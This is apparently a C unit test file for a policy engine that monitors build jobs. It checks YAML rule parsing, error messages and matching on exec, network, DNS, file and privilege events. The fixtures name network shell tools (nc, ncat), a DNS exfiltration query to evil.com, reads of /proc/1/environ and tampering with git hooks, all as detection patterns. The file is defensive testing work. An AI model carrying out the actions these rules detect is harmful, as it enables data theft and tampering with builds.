static void test_error_types(void **state)
{
	expect_load_error("rules:\n  - {name: [a], action: log, match: {exe: x}}\n",
			  "2:12", "expected a rule name (string), got a list");
	expect_load_error("rules:\n  - {name: a, action: {x: y}, match: {exe: x}}\n",
			  "2:23", "expected action, got a mapping");
	expect_load_error("rules:\n  - {name: a, action: log, match: [exe, x]}\n",
			  "2:35", "expected 'match' to be a mapping of conditions, got a list");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: {prefix: {a: b}}}}\n",
			  "2:50", "expected a string or a list of them for 'prefix', got a mapping");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: }}\n",
			  "2:41", "expected a string, got null");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: ~}}\n",
			  "2:41", "expected a string, got null");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: Null}}\n",
			  "2:41", "expected a string, got null");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: NULL}}\n",
			  "2:41", "expected a string, got null");
	policy_free(load_ok("rules:\n  - {name: a, action: log, match: {exe: nULL}}\n"));
	expect_load_error("rules:\n  - {name: a, action: log, match: {parent: make}}\n",
			  "2:44", "expected 'parent' to be a mapping with 'basename' and/or 'exe'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {not: [x]}}\n",
			  "2:41", "expected 'not' to be a mapping of conditions, got a list");
	expect_load_error("rules: {a: b}\n", "1:8",
			  "expected 'rules' to be a list of rules, got a mapping");
	expect_load_error("rules:\n  - just a string\n", "2:5",
			  "expected a rule (a mapping with name, action and match), got a scalar");
	expect_load_error("- a\n- b\n", "1:1", "expected the policy to be a mapping");
	expect_load_error("rules:\n  - {name: \"a\\0b\", action: log, match: {exe: x}}\n",
			  "2:12", "contains a NUL byte");
}

static void test_error_structure(void **state)
{
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: x}}\n"
			  "  - {name: b, action: log, match: {exe: x}}\n"
			  "  - {name: a, action: log, match: {exe: x}}\n",
			  "4:12", "duplicate rule name 'a' (first at line 2)");
	expect_load_error("rules:\n  - action: log\n    match: {exe: x}\n", "2:5",
			  "rule has no 'name'");
	expect_load_error("rules:\n  - name: a\n    match: {exe: x}\n", "2:5",
			  "rule 'a' has no 'action'; valid: log, alert");
	expect_load_error("rules:\n  - name: a\n    action: log\n", "2:5",
			  "rule 'a' has no 'match'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {}}\n", "2:35",
			  "'match' is empty");
	expect_load_error("rules: []\n", "1:8", "'rules' is empty: a policy needs at least one rule");
	expect_load_error("mode: audit\n", "1:1", "the policy has no 'rules' list");
	expect_load_error("", "1:1", "got an empty document");
	expect_load_error("# only a comment\n", "1:1", "got an empty document");
	expect_load_error("rules:\n  - {name: a, action: log, action: alert, match: {exe: x}}\n",
			  "2:28", "duplicate key 'action' (first at line 2)");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: x}}\n---\nrules: []\n",
			  "4:1", "a policy is one YAML document");
}

static void test_error_yaml_syntax(void **state)
{
	expect_load_error("rules:\n  - name: a\n   action: log\n", "3:4", "YAML syntax: ");
	expect_load_error("rules: [a, b\n", "2:1", "YAML syntax: did not find expected ',' or ']'");
	expect_load_error("rules:\n  - name: \"unterminated\n", "3:1",
			  "YAML syntax: found unexpected end of stream");
	expect_load_error("a: *nosuchanchor\n", "1:4", "YAML syntax: found undefined alias");
}

/* Every mistake in one pass, each with its own position. */
static void test_error_all_collected(void **state)
{
	char *errs = load_err(
		"mode: sometimes\n"
		"rules:\n"
		"  - name: a\n"
		"    action: explode\n"
		"    severity: big\n"
		"    match:\n"
		"      cmdline: {regex: '[z-a]'}\n"
		"      basenme: x\n"
		"  - name: b\n"
		"    action: deny\n"
		"    match: {argv: -e}\n"
		"  - name: a\n"
		"    action: log\n"
		"    match: {exe: x}\n");

	expect_error(errs, "1:7", "unknown mode 'sometimes'");
	expect_error(errs, "4:13", "unknown action 'explode'");
	expect_error(errs, "5:15", "unknown severity 'big'");
	expect_error(errs, "7:28", "bad regex '[z-a]': range out of order in character class");
	expect_error(errs, "8:7", "unknown condition 'basenme'");
	expect_error(errs, "11:13", "condition 'argv' cannot be evaluated in the kernel");
	expect_error(errs, "9:5", "deny rule 'b' needs 'exe' or 'basename'");
	expect_error(errs, "12:11", "duplicate rule name 'a' (first at line 3)");
	assert_int_equal(count_lines(errs), 8);
	free(errs);
}

static void test_errs_null_and_bad_args(void **state)
{
	struct bw_policy *p = NULL;
	const char *bad = "rules: []\n";

	assert_int_equal(policy_load_buffer("x", bad, strlen(bad), &p, NULL), -EINVAL);
	assert_null(p);
	assert_int_equal(policy_load_buffer("x", "", 0, NULL, NULL), -EINVAL);
	policy_free(NULL);
	assert_int_equal(policy_match(NULL, NULL, NULL, 0), 0);
}

static void test_load_file(void **state)
{
	char path[] = "/tmp/test_policy_XXXXXX";
	const char *yaml = "rules:\n  - {name: a, action: log, match: {exe: x}}\n";
	struct bw_policy *p = NULL;
	char *errs = NULL;
	size_t len = 0;
	FILE *ef;
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, yaml, strlen(yaml)), (ssize_t)strlen(yaml));
	close(fd);
	assert_int_equal(policy_load_file(path, &p, NULL), 0);
	assert_string_equal(policy_source(p), path);
	policy_free(p);

	/* errors name the file */
	fd = open(path, O_WRONLY | O_TRUNC);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "rules: 5\n", 9), 9);
	close(fd);
	ef = open_memstream(&errs, &len);
	assert_int_equal(policy_load_file(path, &p, ef), -EINVAL);
	fclose(ef);
	assert_null(p);
	assert_non_null(strstr(errs, path));
	expect_contains(errs, ":1:8: error: expected 'rules' to be a list");
	free(errs);
	unlink(path);

	assert_int_equal(policy_load_file("/nonexistent/policy.yaml", &p, NULL), -ENOENT);
	assert_null(p);
}

/* ---- printing ---- */

static char *print_of(const struct bw_policy *p, bool json)
{
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);

	assert_non_null(f);
	if (json)
		policy_print_json(p, f);
	else
		policy_print(p, f);
	fclose(f);
	return out;
}

/* Which userspace kills the kernel holds for: exec rules that kill, only. */
static void test_print_held(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - {name: k, action: kill-process, match: {name_mismatch: true}}\n"
		"  - {name: a, action: alert, match: {name_mismatch: true}}\n"
		"  - {name: f, action: kill-process, on: file, match: {op: chmod}}\n");
	char *text = print_of(p, false);
	const char *held = "userspace (an exec with a kernel hint is held before its first "
			   "instruction until judged)";
	const char *k = strstr(text, "rule 1: k"), *a = strstr(text, "rule 2: a");

	(void)state;
	if (!k || !a || !strstr(k, held) || strstr(a, held))
		fail_msg("expected the hold note on rule k only:\n%s", text);
	free(text);
	policy_free(p);
}

static void test_print(void **state)
{
	struct bw_policy *p = load_ok(
		"mode: audit\n"
		"rules:\n"
		"  - name: \"quote\\\"d\"\n"
		"    description: has a \"quote\"\n"
		"    severity: high\n"
		"    action: kill-job\n"
		"    match:\n"
		"      cmdline: {regex: 'a\\b'}\n"
		"      basename: [sh, bash]\n"
		"      ancestor: {basename: npm, depth: 3}\n"
		"      arg1: -c\n"
		"      argc: {gt: 2}\n"
		"      any: [{uid: 0}, {not: {euid: 0}}]\n"
		"  - {name: d, action: deny, match: {basename: nc}}\n");
	char *text = print_of(p, false), *js = print_of(p, true);
	json_object *root = json_tokener_parse(js), *rules, *r0, *v;

	expect_contains(text, "mode audit, 2 rules, 0 in the kernel");
	expect_contains(text, "action:      kill-job (audit mode: alert)");
	expect_contains(text, "runs in:     userspace (audit mode; the kernel enforces it");
	expect_contains(text, "basename is one of \"sh\", \"bash\"");
	expect_contains(text, "an ancestor within 3 generations: basename is \"npm\"");
	expect_contains(text, "arg1 is \"-c\"");
	expect_contains(text, "argc > 2");
	expect_contains(text, "cmdline matches regex \"a\\\\b\"");

	if (!root)
		fail_msg("not JSON:\n%s", js);
	assert_true(json_object_object_get_ex(root, "rules", &rules));
	assert_int_equal(json_object_array_length(rules), 2);
	r0 = json_object_array_get_idx(rules, 0);
	assert_true(json_object_object_get_ex(r0, "name", &v));
	assert_string_equal(json_object_get_string(v), "quote\"d");
	assert_true(json_object_object_get_ex(r0, "effective_action", &v));
	assert_string_equal(json_object_get_string(v), "alert");
	assert_true(json_object_object_get_ex(r0, "runs_in", &v));
	assert_string_equal(json_object_get_string(v), "userspace");
	json_object_put(root);
	free(text);
	free(js);
	policy_free(p);

	p = load_ok("rules:\n  - {name: d, action: deny, match: {basename: [nc, ncat], "
		    "parent: {basename: npm}}}\n");
	text = print_of(p, false);
	js = print_of(p, true);
	expect_contains(text, "runs in:     kernel");
	expect_contains(text, "kernel key:  basename in {\"nc\", \"ncat\"}, with an ancestor "
			      "within 1 generation named {\"npm\"}");
	expect_contains(js, "\"runs_in\":\"kernel\",");
	expect_contains(js, "\"kernel\":{\"kind\":\"basename\",\"values\":[\"nc\",\"ncat\"],"
			    "\"ancestor_basenames\":[\"npm\"],\"ancestor_depth\":1}");
	root = json_tokener_parse(js);
	assert_non_null(root);
	json_object_put(root);
	free(text);
	free(js);
	policy_free(p);
}

/* ---- rules on connect, dns, file and privilege events ---- */

/* An event and the process that did it (a dash under make under bash). */
struct evx {
	struct fx proc;
	struct bw_event_info ev;
};

static struct bw_event_info *ev_init(struct evx *x, enum bw_event_kind kind)
{
	memset(&x->ev, 0, sizeof(x->ev));
	fx_set(&x->proc, "/usr/bin/curl", ARGV("curl", "-s", "https://x"),
	       ANC("/usr/bin/dash", "/usr/bin/make", "/usr/bin/bash"));
	x->ev.kind = kind;
	x->ev.proc = &x->proc.e;
	return &x->ev;
}

static struct bw_event_info *ev_connect(struct evx *x, const char *addr, uint16_t port,
					const char *proto, const char *name, int result)
{
	struct bw_event_info *e = ev_init(x, BW_ON_CONNECT);

	e->connect.family = strchr(addr, ':') ? AF_INET6 : AF_INET;
	assert_int_equal(inet_pton(e->connect.family, addr, e->connect.addr), 1);
	e->connect.port = port;
	e->connect.proto = proto;
	e->connect.dns_name = name;
	e->connect.result = result;
	return e;
}

static struct bw_event_info *ev_dns(struct evx *x, const char *qname, uint16_t qtype)
{
	struct bw_event_info *e = ev_init(x, BW_ON_DNS);

	e->dns.qname = qname;
	e->dns.qtype = qtype;
	return e;
}

static struct bw_event_info *ev_file(struct evx *x, const char *op, const char *path,
				     const char *path2, uint32_t target, bool in_job)
{
	struct bw_event_info *e = ev_init(x, BW_ON_FILE);

	e->file.op = op;
	e->file.path = path;
	e->file.path2 = path2;
	e->file.target_pid = target;
	e->file.target_in_job = in_job;
	return e;
}

static struct bw_event_info *ev_priv(struct evx *x, const char *op, uint32_t target,
				     bool in_job)
{
	struct bw_event_info *e = ev_init(x, BW_ON_PRIVILEGE);

	e->priv.op = op;
	e->priv.target_pid = target;
	e->priv.target_in_job = in_job;
	return e;
}

static bool ev_matches(const struct bw_policy *p, const struct bw_event_info *e,
		       const char *rule)
{
	const struct bw_rule *out[64];
	size_t n = policy_match_event(p, e, out, 64);

	for (size_t i = 0; i < n && i < 64; i++)
		if (!strcmp(policy_rule_name(out[i]), rule))
			return true;
	return false;
}

/* A one-rule policy "r" on: the event's kind; rest is match:/allow: text. */
static bool ev_hit(const char *rest, const struct bw_event_info *e)
{
	char yaml[4096];
	struct bw_policy *p;
	bool m;

	snprintf(yaml, sizeof(yaml), "rules:\n  - name: r\n    action: alert\n"
		 "    on: %s\n    %s\n", policy_on_name(e->kind), rest);
	p = load_ok(yaml);
	m = ev_matches(p, e, "r");
	policy_free(p);
	return m;
}

#define CID "3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899"

/* container: true|false, or a string test on the id; a host process has none. */
static void test_container(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/bin/sh", ARGV("sh", "-c", "id"), NO_ANC);
	struct evx x;
	struct bw_event_info *ev;

	assert_false(hit("{container: true}", e));
	assert_true(hit("{container: false}", e));
	assert_false(hit("{container: {prefix: \"\"}}", e));
	assert_true(hit("{not: {container: {prefix: 3f4e}}}", e));
	assert_false(hit("{container: {not: {prefix: 3f4e}}}", e)); /* no id to test */
	e->container = CID;
	assert_true(hit("{container: true}", e));
	assert_false(hit("{container: false}", e));
	assert_true(hit("{container: " CID "}", e));
	assert_true(hit("{container: {prefix: 3f4e5d6c7b8a}}", e));
	assert_false(hit("{container: {prefix: 0123}}", e));
	assert_true(hit("{container: [0123, {glob: \"3f4e*\"}]}", e));
	assert_false(hit("{not: {container: {prefix: 3f4e}}}", e));
	/* "true" as a string test would be an id; quoted, it is still the flag */
	assert_true(hit("{container: \"true\", exe: /bin/sh}", e));

	/* event rules: the process that connected */
	ev = ev_connect(&x, "192.0.2.7", 443, "tcp", NULL, 0);
	assert_false(ev_hit("match: {container: true}", ev));
	x.proc.e.container = CID;
	assert_true(ev_hit("match: {container: true, port: 443}", ev));
	assert_true(ev_hit("match: {container: {prefix: 3f4e}}", ev));

	expect_load_error("rules:\n  - {name: a, action: log, match: {container: {bogus: x}}}\n",
			  "2:48", "unknown operator 'bogus'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {container: {gt: 1}}}\n",
			  "2:48", "unknown operator 'gt'");
	/* the kernel cannot see containers: no deny rule on them */
	expect_load_error("rules:\n  - {name: a, action: deny, match: {container: true}}\n",
			  "2:37", "condition 'container' cannot be evaluated in the kernel");
}

#define M(x) "match: " x

static void test_on_connect_conditions(void **state)
{
	struct evx x;
	struct bw_event_info *e = ev_connect(&x, "10.1.2.3", 443, "tcp", "API.GitHub.com.", 0);

	/* address: CIDR lists, exact addresses, IPv4 and IPv6 */
	assert_true(ev_hit(M("{address: 10.0.0.0/8}"), e));
	assert_true(ev_hit(M("{address: [192.168.0.0/16, 10.1.2.0/24]}"), e));
	assert_true(ev_hit(M("{address: 10.1.2.3}"), e));
	assert_true(ev_hit(M("{address: 0.0.0.0/0}"), e));
	assert_true(ev_hit(M("{address: 10.1.2.2/31}"), e));
	assert_false(ev_hit(M("{address: 10.1.2.4/31}"), e));
	assert_false(ev_hit(M("{address: [11.0.0.0/8, '::/0']}"), e));
	assert_true(ev_hit(M("{not: {address: 172.16.0.0/12}}"), e));
	e = ev_connect(&x, "::1", 8080, "tcp", NULL, 0);
	assert_true(ev_hit(M("{address: '::1/128'}"), e));
	assert_true(ev_hit(M("{address: '::1'}"), e));
	assert_false(ev_hit(M("{address: 127.0.0.0/8}"), e));
	e = ev_connect(&x, "2001:db8::17", 80, "tcp", NULL, 0);
	assert_true(ev_hit(M("{address: '2001:db8::/32'}"), e));
	assert_false(ev_hit(M("{address: '2001:db9::/32'}"), e));
	assert_false(ev_hit(M("{address: 0.0.0.0/0}"), e));
	/* an IPv4-mapped IPv6 address is tested as IPv4 */
	e = ev_connect(&x, "::ffff:127.0.0.1", 80, "tcp", NULL, 0);
	assert_true(ev_hit(M("{address: 127.0.0.0/8}"), e));
	assert_false(ev_hit(M("{address: '::/0'}"), e));

	/* port, proto, result */
	e = ev_connect(&x, "10.1.2.3", 443, "tcp", NULL, -EINPROGRESS);
	assert_true(ev_hit(M("{port: 443}"), e));
	assert_true(ev_hit(M("{port: [80, 443]}"), e));
	assert_false(ev_hit(M("{port: {ge: 1024}}"), e));
	assert_true(ev_hit(M("{port: {ge: 400, lt: 500}}"), e));
	assert_true(ev_hit(M("{proto: tcp}"), e));
	assert_false(ev_hit(M("{proto: [udp, other]}"), e));
	assert_true(ev_hit(M("{result: in-progress}"), e));
	assert_true(ev_hit(M("{result: 115}"), e));
	assert_true(ev_hit(M("{result: [ok, in-progress]}"), e));
	assert_false(ev_hit(M("{result: ok}"), e));
	assert_true(ev_hit(M("{result: {not: refused}}"), e));
	e = ev_connect(&x, "10.1.2.3", 53, "udp", NULL, -ECONNREFUSED);
	assert_true(ev_hit(M("{result: refused, proto: udp}"), e));
	assert_true(ev_hit(M("{result: {gt: 0}}"), e));
	e = ev_connect(&x, "10.1.2.3", 53, "udp", NULL, 0);
	assert_true(ev_hit(M("{result: ok}"), e));
	assert_true(ev_hit(M("{result: OK}"), e)); /* names ignore case */

	/* domain: case and the trailing dot ignored, "*." for subdomains */
	e = ev_connect(&x, "10.1.2.3", 443, "tcp", "API.GitHub.com.", 0);
	assert_true(ev_hit(M("{domain: api.github.com}"), e));
	assert_true(ev_hit(M("{domain: API.GITHUB.COM.}"), e));
	assert_true(ev_hit(M("{domain: {exact: api.github.com}}"), e));
	assert_true(ev_hit(M("{domain: '*.github.com'}"), e));
	assert_true(ev_hit(M("{domain: '*.com'}"), e));
	assert_false(ev_hit(M("{domain: github.com}"), e));
	assert_false(ev_hit(M("{domain: '*.api.github.com'}"), e));
	assert_true(ev_hit(M("{domain: {suffix: .github.com}}"), e)); /* folded */
	assert_true(ev_hit(M("{domain: {regex: '^api[.]'}}"), e));
	assert_true(ev_hit(M("{domain: {not: '*.evil.com'}}"), e));
	e = ev_connect(&x, "10.1.2.3", 443, "tcp", "github.com", 0);
	assert_true(ev_hit(M("{domain: github.com}"), e));
	assert_false(ev_hit(M("{domain: '*.github.com'}"), e));
	assert_false(ev_hit(M("{domain: '*.hub.com'}"), e)); /* whole labels */
	/* no known name: a domain test never holds, negated or not */
	e = ev_connect(&x, "10.1.2.3", 443, "tcp", NULL, 0);
	assert_false(ev_hit(M("{domain: {not: github.com}}"), e));
	assert_false(ev_hit(M("{domain: {regex: ''}}"), e));
	assert_true(ev_hit(M("{not: {domain: github.com}}"), e));
	e->connect.dns_name = "";
	assert_false(ev_hit(M("{domain: {not: github.com}}"), e));

	/* process conditions test the process that connected */
	e = ev_connect(&x, "10.1.2.3", 443, "tcp", NULL, 0);
	assert_true(ev_hit(M("{basename: curl, parent: {basename: dash}, port: 443}"), e));
	assert_true(ev_hit(M("{ancestor: {basename: make}, argv: https://x}"), e));
	assert_true(ev_hit(M("{cmdline: curl -s https://x, uid: 1000, arg1: -s}"), e));
	assert_false(ev_hit(M("{basename: wget, port: 443}"), e));
	assert_true(ev_hit(M("{any: [{basename: wget}, {address: 10.0.0.0/8}]}"), e));
	/* an event whose process is unknown has empty process fields */
	e->proc = NULL;
	assert_true(ev_hit(M("{exe: '', port: 443}"), e));
	assert_false(ev_hit(M("{ancestor: {basename: make}}"), e));
}

static void test_on_dns_conditions(void **state)
{
	struct evx x;
	struct bw_event_info *e = ev_dns(&x, "x1.exfil.evil.com", 16);

	assert_true(ev_hit(M("{qname: '*.evil.com'}"), e));
	assert_true(ev_hit(M("{qname: '*.EVIL.com.'}"), e));
	assert_false(ev_hit(M("{qname: evil.com}"), e));
	assert_true(ev_hit(M("{qname: x1.exfil.evil.com}"), e));
	assert_true(ev_hit(M("{qname: {regex: '^[a-z0-9]+[.]exfil[.]'}}"), e));
	assert_true(ev_hit(M("{qtype: TXT}"), e));
	assert_true(ev_hit(M("{qtype: txt}"), e));
	assert_true(ev_hit(M("{qtype: 16}"), e));
	assert_true(ev_hit(M("{qtype: [A, AAAA, TXT]}"), e));
	assert_false(ev_hit(M("{qtype: [A, AAAA]}"), e));
	assert_true(ev_hit(M("{qtype: {not: [A, AAAA, HTTPS]}}"), e));
	assert_true(ev_hit(M("{qtype: {eq: TXT}}"), e));
	e = ev_dns(&x, "Example.ORG.", 28);
	assert_true(ev_hit(M("{qname: example.org, qtype: AAAA}"), e));
	assert_true(ev_hit(M("{qtype: {ge: 28}}"), e));
	assert_true(ev_hit(M("{basename: curl, qname: [a.b, example.org]}"), e));
	e = ev_dns(&x, NULL, 1);
	assert_false(ev_hit(M("{qname: {not: x}}"), e));
	/* every type the decoder names, by that name */
	e = ev_dns(&x, "h.example", 52);
	assert_true(ev_hit(M("{qtype: TLSA}"), e));
	assert_string_equal(dns_type_name(52), "TLSA");
}

static void test_on_file_conditions(void **state)
{
	struct evx x;
	struct bw_event_info *e = ev_file(&x, "open-read", "/proc/1/environ", NULL, 1, false);

	assert_true(ev_hit(M("{path: /proc/1/environ}"), e));
	assert_true(ev_hit(M("{path: {regex: '^/proc/[0-9]+/environ$'}}"), e));
	assert_true(ev_hit(M("{op: open-read}"), e));
	assert_true(ev_hit(M("{op: [open-write, open-read]}"), e));
	assert_false(ev_hit(M("{op: [open-write, unlink, rename]}"), e));
	assert_true(ev_hit(M("{target_in_job: false}"), e));
	assert_false(ev_hit(M("{target_in_job: true}"), e));
	e->file.target_in_job = true;
	assert_true(ev_hit(M("{target_in_job: true}"), e));
	/* a path that names no process has no target: false either way */
	e = ev_file(&x, "open-write", "/home/ci/src/main.c", NULL, 0, false);
	assert_false(ev_hit(M("{target_in_job: false}"), e));
	assert_false(ev_hit(M("{target_in_job: true}"), e));
	assert_true(ev_hit(M("{path: {prefix: /home/ci/src/}, op: open-write}"), e));
	/* a rename is about both paths */
	e = ev_file(&x, "rename", "/tmp/payload.c", "/home/ci/src/main.c", 0, false);
	assert_true(ev_hit(M("{path: {prefix: /home/ci/src/}}"), e));
	assert_true(ev_hit(M("{path: /tmp/payload.c, op: rename}"), e));
	assert_false(ev_hit(M("{path: {prefix: /etc/}}"), e));
	e = ev_file(&x, "unlink", "/home/ci/src/.git/hooks/pre-commit", NULL, 0, false);
	assert_true(ev_hit(M("{op: unlink, path: {glob: '*/.git/hooks/*'}, basename: curl}"), e));
}

static void test_tracked_and_leftovers(void **state)
{
	struct evx x;
	struct bw_event_info *e = ev_file(&x, "open-write", "/w/src/main.c", NULL, 0, false);
	struct bw_policy *p;
	char *errs;

	assert_true(ev_hit(M("{tracked: false}"), e));
	assert_false(ev_hit(M("{tracked: true}"), e));
	e->file.tracked = true;
	assert_true(ev_hit(M("{tracked: true, op: open-write}"), e));
	assert_false(ev_hit(M("{not: {tracked: true}}"), e));
	/* a leftover is judged by its process alone */
	e = ev_init(&x, BW_ON_LEFTOVER);
	assert_true(ev_hit(M("{basename: curl}"), e));
	assert_false(ev_hit(M("{basename: ssh-agent}"), e));
	assert_true(ev_hit(M("{ancestor: {basename: make}}"), e));
	/* the short form: one rule named leftovers, after the policy's own */
	p = load_ok("leftovers: kill\nrules:\n  - name: a\n    action: log\n    match: {argc: 9}\n");
	assert_int_equal(policy_rule_count(p), 2);
	assert_string_equal(policy_rule_name(policy_rule(p, 1)), "leftovers");
	assert_int_equal(policy_rule_action(policy_rule(p, 1)), POLICY_ACT_KILL_JOB);
	assert_true(ev_matches(p, e, "leftovers"));
	assert_false(ev_matches(p, ev_file(&x, "unlink", "/x", NULL, 0, false), "leftovers"));
	policy_free(p);
	p = load_ok("mode: audit\nleftovers: alert\nrules:\n  - name: a\n    action: log\n"
		    "    match: {argc: 9}\n");
	assert_int_equal(policy_rule_action(policy_rule(p, 1)), POLICY_ACT_ALERT);
	policy_free(p);
	/* errors: where and what */
	expect_load_error("leftovers: reap\nrules:\n  - name: a\n    action: log\n"
			  "    match: {argc: 1}\n", "1:12", "alert, kill");
	expect_load_error("leftovers: kill\nrules:\n  - name: leftovers\n    action: log\n"
			  "    match: {argc: 1}\n", "1:12", "line 3");
	expect_load_error("rules:\n  - name: a\n    action: log\n    on: leftover\n"
			  "    match: {tracked: true}\n", "5:13", "only valid in rules on: file");
	expect_load_error("rules:\n  - name: a\n    action: deny\n    on: leftover\n"
			  "    match: {argc: 1}\n", "3:13", "only valid in rules on: exec");
	errs = load_err("rules:\n  - name: a\n    action: log\n    on: leftovers\n"
			"    match: {argc: 1}\n");
	expect_contains(errs, "leftover");
	free(errs);
}

static void test_on_privilege_conditions(void **state)
{
	struct evx x;
	struct bw_event_info *e = ev_priv(&x, "ptrace", 1, false);

	assert_true(ev_hit(M("{op: ptrace}"), e));
	assert_true(ev_hit(M("{op: ptrace, target_in_job: false}"), e));
	assert_false(ev_hit(M("{op: ptrace, target_in_job: true}"), e));
	assert_false(ev_hit(M("{op: [setuid, setgid, mount, bpf, module, memfd, signal-agent]}"), e));
	e = ev_priv(&x, "ptrace", 4243, true);
	assert_false(ev_hit(M("{op: ptrace, target_in_job: false}"), e));
	assert_true(ev_hit(M("{target_in_job: true}"), e));
	e = ev_priv(&x, "setuid", 0, false);
	assert_true(ev_hit(M("{op: [setuid, setgid], euid: 1000}"), e));
	assert_false(ev_hit(M("{target_in_job: false}"), e)); /* no target */
	assert_true(ev_hit(M("{not: {target_in_job: true}}"), e));
	e = ev_priv(&x, "signal-agent", 777, false);
	assert_true(ev_hit(M("{op: signal-agent}"), e));
	assert_true(ev_hit(M("{op: {prefix: signal}}"), e));
}

static void test_allowlist(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - name: egress\n"
		"    action: alert\n"
		"    on: connect\n"
		"    allow:\n"
		"      - domains: [github.com, '*.githubusercontent.com', Registry.NPMjs.org.]\n"
		"        ports: [443, 80]\n"
		"      - cidrs: [127.0.0.0/8, '::1/128', '2001:db8:1::/48']\n"
		"  - name: egress-curl\n"
		"    action: log\n"
		"    on: connect\n"
		"    match: {basename: curl}\n"
		"    allow: {cidrs: [10.0.0.0/8], domains: [example.com], ports: [8443]}\n"
		"  - name: any-dest-443\n"
		"    action: log\n"
		"    on: connect\n"
		"    allow: {ports: 443}\n"
		"  - name: dns\n"
		"    action: alert\n"
		"    on: dns\n"
		"    allow: {domains: [github.com, '*.github.com']}\n");
	struct evx x;
	struct bw_event_info *e;

	/* domains with wildcards, and their ports */
	e = ev_connect(&x, "140.82.112.3", 443, "tcp", "github.com", 0);
	assert_false(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "140.82.112.3", 22, "tcp", "github.com", 0);
	assert_true(ev_matches(p, e, "egress")); /* name allowed, port not */
	e = ev_connect(&x, "185.199.108.133", 443, "tcp", "objects.githubusercontent.com", 0);
	assert_false(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "185.199.108.133", 443, "tcp", "githubusercontent.com", 0);
	assert_true(ev_matches(p, e, "egress")); /* '*.' is subdomains only */
	e = ev_connect(&x, "104.16.0.1", 80, "tcp", "REGISTRY.npmjs.org", 0);
	assert_false(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "104.16.0.1", 443, "tcp", "evil-github.com", 0);
	assert_true(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "104.16.0.1", 443, "tcp", "github.com.evil.net", 0);
	assert_true(ev_matches(p, e, "egress"));
	/* no known name: only a CIDR can allow it */
	e = ev_connect(&x, "140.82.112.3", 443, "tcp", NULL, 0);
	assert_true(ev_matches(p, e, "egress"));
	/* CIDRs, IPv4 and IPv6, any port */
	e = ev_connect(&x, "127.0.0.53", 53, "udp", NULL, 0);
	assert_false(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "::1", 5432, "tcp", NULL, 0);
	assert_false(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "2001:db8:1:ffff::1", 9, "tcp", NULL, 0);
	assert_false(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "2001:db8:2::1", 9, "tcp", NULL, 0);
	assert_true(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "::2", 9, "tcp", NULL, 0);
	assert_true(ev_matches(p, e, "egress"));
	e = ev_connect(&x, "::ffff:127.0.0.1", 9, "tcp", NULL, 0);
	assert_false(ev_matches(p, e, "egress"));

	/* one entry: (CIDR or domain) and port; match: narrows the rule */
	e = ev_connect(&x, "10.9.9.9", 8443, "tcp", NULL, 0);
	assert_false(ev_matches(p, e, "egress-curl"));
	e = ev_connect(&x, "10.9.9.9", 443, "tcp", NULL, 0);
	assert_true(ev_matches(p, e, "egress-curl"));
	e = ev_connect(&x, "1.1.1.1", 8443, "tcp", "example.com", 0);
	assert_false(ev_matches(p, e, "egress-curl"));
	e = ev_connect(&x, "1.1.1.1", 8443, "tcp", "www.example.com", 0);
	assert_true(ev_matches(p, e, "egress-curl")); /* plain name: itself only */
	x.proc.e.exe = "/usr/bin/wget";
	assert_false(ev_matches(p, e, "egress-curl"));
	/* ports alone: every destination on those ports */
	e = ev_connect(&x, "1.1.1.1", 443, "tcp", NULL, 0);
	assert_false(ev_matches(p, e, "any-dest-443"));
	e = ev_connect(&x, "1.1.1.1", 444, "tcp", NULL, 0);
	assert_true(ev_matches(p, e, "any-dest-443"));

	/* dns: the query name against domains */
	e = ev_dns(&x, "api.github.com", 1);
	assert_false(ev_matches(p, e, "dns"));
	e = ev_dns(&x, "github.com.", 28);
	assert_false(ev_matches(p, e, "dns"));
	e = ev_dns(&x, "githubusercontent.com", 1);
	assert_true(ev_matches(p, e, "dns"));
	assert_false(ev_matches(p, e, "egress")); /* a dns event is not a connect */
	e = ev_dns(&x, NULL, 1);
	assert_true(ev_matches(p, e, "dns")); /* no name is not an allowed name */
	policy_free(p);
}

/* policy_match sees exec rules only, policy_match_event its own kind only. */
static void test_on_kinds_kept_apart(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - {name: x, action: alert, match: {basename: curl}}\n"
		"  - {name: c, action: alert, on: connect, match: {basename: curl}}\n"
		"  - {name: d, action: alert, on: dns, match: {basename: curl}}\n"
		"  - {name: f, action: alert, on: file, match: {basename: curl}}\n"
		"  - {name: v, action: alert, on: privilege, match: {basename: curl}}\n"
		"  - {name: x2, action: alert, on: exec, match: {basename: curl}}\n");
	const struct bw_rule *out[8];
	struct evx x;
	struct bw_event_info *e;

	assert_int_equal(policy_rule_on(policy_rule(p, 0)), BW_ON_EXEC);
	assert_int_equal(policy_rule_on(policy_rule(p, 1)), BW_ON_CONNECT);
	assert_int_equal(policy_rule_on(policy_rule(p, 4)), BW_ON_PRIVILEGE);
	assert_int_equal(policy_rule_on(policy_rule(p, 5)), BW_ON_EXEC);
	e = ev_connect(&x, "1.2.3.4", 1, "tcp", NULL, 0);
	assert_int_equal(policy_match(p, &x.proc.e, out, 8), 2);
	assert_string_equal(policy_rule_name(out[0]), "x");
